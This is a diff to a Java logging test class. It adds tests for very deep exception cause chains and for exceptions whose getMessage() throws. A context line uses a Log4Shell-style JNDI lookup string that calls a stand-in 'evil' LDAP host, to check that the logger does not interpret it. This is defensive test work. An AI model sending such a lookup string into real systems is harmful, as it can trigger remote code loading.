@@ -97,4 +97,36 @@ class Slf4jLoggingTest {
     obs.logger("my-app").info("${jndi:ldap://evil/x} and {} stay as written");
     assertThat(captured.lines().get(0).path("body").asText()).isEqualTo("${jndi:ldap://evil/x} and {} stay as written");
   }
+
+  @Test
+  void aCauseChainThousandsDeepIsLoggedBoundedInsteadOfOverflowingTheCallersStack() throws Exception {
+    Throwable deep = new IllegalStateException("root cause");
+    for (int i = 0; i < 5000; i++) {
+      deep = new RuntimeException("level " + i, deep);
+    }
+    Throwable chain = deep;
+    assertThatCode(() -> obs.logger("my-app").error("deep", Field.error(chain))).doesNotThrowAnyException();
+    JsonNode line = captured.lines().get(0);
+    assertThat(line.path("body").asText()).isEqualTo("deep");
+    assertThat(line.path("exception.type").asText()).isEqualTo("java.lang.RuntimeException");
+    assertThat(line.path("exception.message").asText()).isEqualTo("level 4999");
+    assertThat(line.path("exception.stacktrace").asText()).contains("Caused by: java.lang.RuntimeException: level 4998");
+  }
+
+  @Test
+  void anExceptionWhoseGetMessageThrowsIsLoggedWithAMarker() throws Exception {
+    Exception hostile = new IllegalStateException() {
+      @Override
+      public String getMessage() {
+        throw new UnsupportedOperationException("no message for you");
+      }
+    };
+    assertThatCode(() -> obs.logger("my-app").error("hostile", Field.error(hostile), field("other", hostile)))
+        .doesNotThrowAnyException();
+    JsonNode line = captured.lines().get(0);
+    assertThat(line.path("body").asText()).isEqualTo("hostile");
+    assertThat(line.path("exception.type").asText()).startsWith(Slf4jLoggingTest.class.getName());
+    assertThat(line.path("exception.message").asText()).contains("getMessage() failed");
+    assertThat(line.path("other").path("message").asText()).contains("getMessage() failed");
+  }
 }
